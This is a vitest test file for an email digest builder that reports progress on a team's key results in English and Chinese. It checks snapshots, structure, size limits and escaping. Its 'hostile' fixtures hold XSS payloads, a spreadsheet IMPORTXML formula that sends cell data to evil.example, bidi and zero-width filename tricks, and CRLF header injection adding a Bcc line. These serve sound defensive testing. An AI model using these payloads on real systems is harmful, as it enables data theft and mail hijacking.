import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Summary } from '../../src/core/summary'
import { type DigestOptions, digestMail, MOST_BYTES } from '../../src/email/digest'
import {
  aMove,
  aNotCounted,
  anAttention,
  anObjective,
  aQuote,
  aSummary,
  day,
  lena,
  options,
  ratio,
} from './buildSummary'
import { aChineseSummary, chineseOptions } from './buildSummaryZh'
import { piecesOf, visibleText, wordsOf } from './markup'

const nothing = {
  attention: [],
  moved: [],
  objectives: [],
  waiting: [],
  wins: [],
  blockers: [],
  dates: [],
  notCounted: [],
}

/** Weeks that read differently, each made of an ordinary one. */
const weeks: { week: string; of: (ordinary: Summary) => Partial<Summary> }[] = [
  { week: 'ordinary', of: () => ({}) },
  {
    week: 'first',
    of: ({ objectives }) => ({
      ...nothing,
      asOf: day('2026-07-03'),
      week: 1,
      progress: ratio(0),
      expected: ratio(0.02),
      lastWeek: undefined,
      objectives: objectives.map((line) => ({
        ...line,
        progress: ratio(0),
        expected: ratio(0.02),
        lastWeek: undefined,
        pace: 'tooEarly',
      })),
    }),
  },
  {
    week: 'quiet',
    of: ({ objectives, expected }) => ({
      ...nothing,
      progress: ratio(0.49),
      lastWeek: ratio(0.49),
      objectives: objectives
        .slice(0, 2)
        .map((line) => ({ ...line, progress: ratio(0.49), expected, lastWeek: ratio(0.49), pace: 'onPace' })),
    }),
  },
  {
    week: 'last',
    of: ({ attention, moved, objectives }) => ({
      ...nothing,
      asOf: day('2026-09-30'),
      week: 14,
      progress: ratio(0.81),
      expected: ratio(1),
      lastWeek: ratio(0.86),
      attention: attention.slice(1, 2),
      moved: moved.slice(0, 1),
      objectives: objectives.slice(0, 1).map((line) => ({ ...line, expected: ratio(1), pace: 'farBehind' })),
    }),
  },
  {
    week: 'empty',
    of: () => ({ ...nothing, keyResults: 0, progress: undefined, lastWeek: undefined }),
  },
]

const languages = [
  { language: 'en', summary: aSummary, options },
  { language: 'zh', summary: aChineseSummary, options: chineseOptions },
]

const cases = languages.flatMap(({ language, summary, options }) =>
  weeks.map(({ week, of }) => ({ language, week, mail: digestMail(summary(of(summary())), options()) })),
)

describe.each(cases)('the $week week in $language', ({ language, week, mail }) => {
  test('reads as its snapshots do', async () => {
    await expect(mail.html).toMatchFileSnapshot(`__snapshots__/${week}.${language}.html`)
    const letter = `Subject: ${mail.subject}\nPreheader: ${mail.preheader}\n\n${mail.text}`
    await expect(letter).toMatchFileSnapshot(`__snapshots__/${week}.${language}.txt`)
  })

  test('says the same in HTML and in plain text, in the same order', () => {
    expect(wordsOf(visibleText(mail.html))).toEqual(wordsOf(mail.text))
  })

  test('is well formed, has one h1 and an h2 for each further section', () => {
    const tags = piecesOf(mail.html).flatMap((piece) => ('tag' in piece ? [piece.tag] : []))
    expect(tags.filter((tag) => tag === 'h1')).toHaveLength(1)
    expect(tags.filter((tag) => tag === 'h2')).toHaveLength(mail.text.match(/^-{40}\n\S/gm)?.length ?? 0)
  })

  test('carries its language, loads nothing and hides the preheader', () => {
    expect(mail.html).toMatch(/^<!DOCTYPE html><html lang="(en-US|zh-CN)">/)
    expect(mail.html).not.toMatch(
      /<(img|svg|script|link|style|iframe)|src=|url\(|position:|display:(flex|grid)|var\(/,
    )
    expect(mail.html).toMatch(new RegExp(`<div style="display:none;[^"]*">${mail.preheader}</div>`))
  })

  test('names each table: layout is presentation, data has headings with a scope', () => {
    const tables = mail.html.match(/<table[^>]*>/g) ?? []
    const data = tables.filter((table) => !table.includes('role="presentation"'))
    expect(data).toHaveLength(mail.html.includes('<thead>') ? 1 : 0)
    for (const heading of mail.html.match(/<th [^>]*>/g) ?? []) expect(heading).toMatch(/scope="(col|row)"/)
  })
})

const hostile = {
  script: '<script>alert(1)</script>',
  attribute: '"><img src=x onerror=alert(1)>',
  formula: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  turned: 'inv\u202egpj\u2066.exe',
  hidden: 'pay\u200b\u2060ment',
  lines: 'Grow\r\n\r\nBcc: x@example.com\u2028now',
  long: '超长的目标'.repeat(10_000),
  halved: '😀'.repeat(100).slice(0, 139),
}

/** Every text a cell can reach the mail by. */
const filledWith = (text: string): Partial<Summary> => {
  const subject = { title: text, objective: text, owners: [{ name: text }, { mail: text }], row: 9 }
  return {
    attention: [anAttention({ ...subject, lastNote: text })],
    moved: [aMove({ ...subject, unit: { kind: 'number', text } })],
    objectives: [anObjective(subject)],
    waiting: [{ owner: { name: text }, count: 1 }],
    wins: [aQuote({ ...subject, text, author: text })],
    blockers: [aQuote({ ...subject, text, author: text })],
    dates: [{ ...subject, due: day('2026-09-01') }],
    notCounted: [aNotCounted({ title: text, problem: { code: 'notANumber', field: 'current', text } })],
  }
}

describe.each(Object.entries(hostile))('hostile text (%s) is shown harmless', (_, text) => {
  const mail = digestMail(aSummary(filledWith(text)), options({ planTitle: text, senderName: text }))

  test('it adds no element, no attribute and no line', () => {
    const harmless = digestMail(aSummary(filledWith('x')), options({ planTitle: 'x', senderName: 'x' }))
    const shape = (html: string) => piecesOf(html).map((piece) => ('text' in piece ? 'text' : piece))
    expect(shape(mail.html)).toEqual(shape(harmless.html))
    expect(mail.text.split('\n')).toHaveLength(harmless.text.split('\n').length)
  })

  test('no control, bidi or zero-width character is left in subject and body', () => {
    for (const part of [mail.subject, mail.preheader, mail.html, mail.text.replaceAll('\n', '')])
      expect(part).not.toMatch(
        /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u200b\u200e\u200f\u2060\u202a-\u202e\u2066-\u2069]/u,
      )
    expect(mail.subject.length).toBeLessThanOrEqual(78)
  })

  test('both bodies still say the same', () => {
    const spaceless = (words: string[]) => words.join('').replace(/^-/gm, '')
    expect(spaceless(wordsOf(visibleText(mail.html)))).toBe(spaceless(wordsOf(mail.text)))
  })
})

const bytes = (text: string) => new TextEncoder().encode(text).length

/** A plan of so many key results in which everything is said of every one of them. */
function planOf(count: number, text: string): Partial<Summary> {
  const each = <T>(make: (row: number) => T): T[] =>
    Array.from({ length: count }, (_, index) => make(index + 4))
  const subject = (row: number) => ({
    title: `${row} ${text}`,
    objective: text,
    owners: [{ name: text }, lena],
    row,
  })
  return {
    keyResults: count,
    attention: each((row) => anAttention({ ...subject(row), lastNote: text })),
    moved: each((row) => aMove(subject(row))),
    objectives: each((row) => anObjective(subject(row))),
    waiting: each((row) => ({ owner: { name: `${row} ${text}` }, count: 1, days: row })),
    wins: each((row) => aQuote({ ...subject(row), text })),
    blockers: each((row) => aQuote({ ...subject(row), text })),
    dates: each((row) => ({ ...subject(row), due: day('2026-09-01') })),
    notCounted: each((row) =>
      aNotCounted({ ...subject(row), problem: { code: 'missing', field: 'target' } }),
    ),
  }
}

describe.each([
  {
    language: 'en',
    given: options(),
    rest: /more in the sheet/,
    text: 'Raise the share of riders who come back within thirty days',
  },
  {
    language: 'zh',
    given: chineseOptions(),
    rest: /请在表格中查看/,
    text: '提高三十天内再次预约试骑的新客户所占的比例',
  },
])('the size of the mail in $language', ({ given, rest, text }) => {
  test.each([0, 1, 2_000])('%d key results fit', (count) => {
    const mail = digestMail(aSummary(planOf(count, text)), given)
    expect(bytes(mail.html)).toBeLessThanOrEqual(MOST_BYTES)
  })

  test('a long plan says how much more there is, a short one does not', () => {
    expect(digestMail(aSummary(planOf(2_000, text)), given).text).toContain(given.messages.mail.more(1_995))
    expect(digestMail(aSummary(planOf(1, text)), given).text).not.toMatch(rest)
  })
})

test.each([
  { why: 'four bytes a character', text: '𠮷'.repeat(200) },
  { why: 'six bytes once escaped', text: '"'.repeat(200) },
])('2,000 key results fit with $why', ({ text }) => {
  const mail = digestMail(aSummary(planOf(2_000, text)), options({ planTitle: text, senderName: text }))
  expect(bytes(mail.html)).toBeLessThanOrEqual(MOST_BYTES)
  expect(mail.text).toContain('and 1,995 more in the sheet')
})

const given: fc.Arbitrary<Partial<DigestOptions>> = fc.record({
  planTitle: fc.string({ unit: 'binary', maxLength: 300 }),
  senderName: fc.string({ unit: 'binary', maxLength: 300 }),
})
test('whatever the cells hold, the mail is well formed, and both bodies have the same links', () =>
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 300 }), given, (text, some) => {
      const mail = digestMail(aSummary(filledWith(text)), options(some))
      const inHtml = piecesOf(mail.html).flatMap((piece) =>
        'tag' in piece && piece.tag === 'a'
          ? [/href="([^"]*)"/.exec(piece.attributes)?.[1]?.replaceAll('&amp;', '&')]
          : [],
      )
      const inText = mail.text.match(/^ *https:\/\/docs\.google\.com\S+$/gm)?.map((link) => link.trim())
      expect(inHtml).toEqual(inText)
    }),
  ))
